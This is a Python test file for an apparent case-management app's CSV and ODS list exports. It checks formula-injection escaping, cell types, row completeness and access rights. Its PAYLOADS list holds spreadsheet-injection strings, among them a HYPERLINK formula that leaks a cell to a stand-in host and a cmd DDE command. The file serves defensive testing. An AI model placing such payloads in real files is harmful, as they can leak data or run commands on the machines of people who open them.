# SPDX-FileCopyrightText: 2026 The Responsa authors
# SPDX-License-Identifier: EUPL-1.2
"""Lists as files: all rows, the reader's rights, nothing that a spreadsheet would run."""

import csv
import datetime as dt
import io
import zipfile
from xml.etree import ElementTree as ET

import pytest

from responsa.cases.models import Case
from responsa.cases.queries import lists
from responsa.ui import sheets

PAYLOADS = (
    '=HYPERLINK("http://evil.test/?"&A1,"x")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    " =1+1",
    "\ufeff=1+1",
    "\uff1d1+1",
    '=1+1;=1+1"',
)
TABLE = "{urn:oasis:names:tc:opendocument:xmlns:table:1.0}"
OFFICE = "{urn:oasis:names:tc:opendocument:xmlns:office:1.0}"


def file_of(desk, kind, **query):
    answer = desk.get("desk:list-export", kind, **query)
    assert "attachment" in answer["Content-Disposition"]
    return b"".join(answer.streaming_content)


def csv_rows(data):
    text = data.decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text, newline=""), delimiter=";"))


def ods_rows(data):
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        first = archive.infolist()[0]
        assert (first.filename, first.compress_type) == ("mimetype", zipfile.ZIP_STORED)
        page = ET.fromstring(archive.read("content.xml"))  # noqa: S314 -- written by us a moment ago
    return [row.findall(f"{TABLE}table-cell") for row in page.iter(f"{TABLE}table-row")]


def test_no_cell_of_a_csv_file_is_a_formula(at, town):
    for payload in PAYLOADS:
        case = town.case()
        Case.objects.filter(pk=case.pk).update(subject=payload, requester_name=payload)
    rows = csv_rows(file_of(at("dorin"), "csv"))

    assert len(rows) == len(PAYLOADS) + 1
    for row in rows[1:]:
        for cell in row:
            assert cell.lstrip(" \ufeff\n")[:1] not in tuple("=+-@\t\r\uff1d"), cell


def test_a_spreadsheet_holds_text_as_text_and_dates_as_dates(at, town):
    case = town.case(subject="=1+1 & <b>")
    rows = ods_rows(file_of(at("dorin"), "ods"))
    subject, received = rows[1][2], rows[1][10]

    assert subject.get(f"{OFFICE}value-type") == "string"
    assert "".join(subject.itertext()) == "=1+1 & <b>"
    assert received.get(f"{OFFICE}value-type") == "date"
    assert dt.datetime.fromisoformat(received.get(f"{OFFICE}date-value")).year == (
        case.received_at.year
    )
    assert not any("formula" in name for row in rows for cell in row for name in cell.attrib)


@pytest.mark.parametrize("kind", ["csv", "ods"])
def test_a_file_holds_every_row_of_the_list_and_nothing_else(at, town, kind, monkeypatch):
    monkeypatch.setattr(lists, "_BATCH", 2)
    cases = [town.case() for _ in range(5)]
    town.case("payment")
    town.case(channel="fax")
    data = file_of(at("dorin"), kind, view="open", channel="web")
    rows = (
        csv_rows(data)
        if kind == "csv"
        else [["".join(cell.itertext()) for cell in row] for row in ods_rows(data)]
    )

    assert [row[0] for row in rows[1:]] == [case.number for case in cases]
    assert rows[0][:3] == ["No.", "Short code", "Subject"]
    assert len(csv_rows(file_of(at("oscar"), "csv", view="all"))) == 2


def test_only_known_formats_are_written_and_only_for_colleagues(at, town, client):
    at("dorin").get("desk:list-export", "xls", expect=404)

    assert client.get("/desk/cases/export/csv/").status_code == 302


def test_a_plain_text_stays_as_it_is():
    assert [sheets.safe(text) for text in ("a=b", "24718", "", "'x")] == [
        "a=b",
        "24718",
        "",
        "'x",
    ]
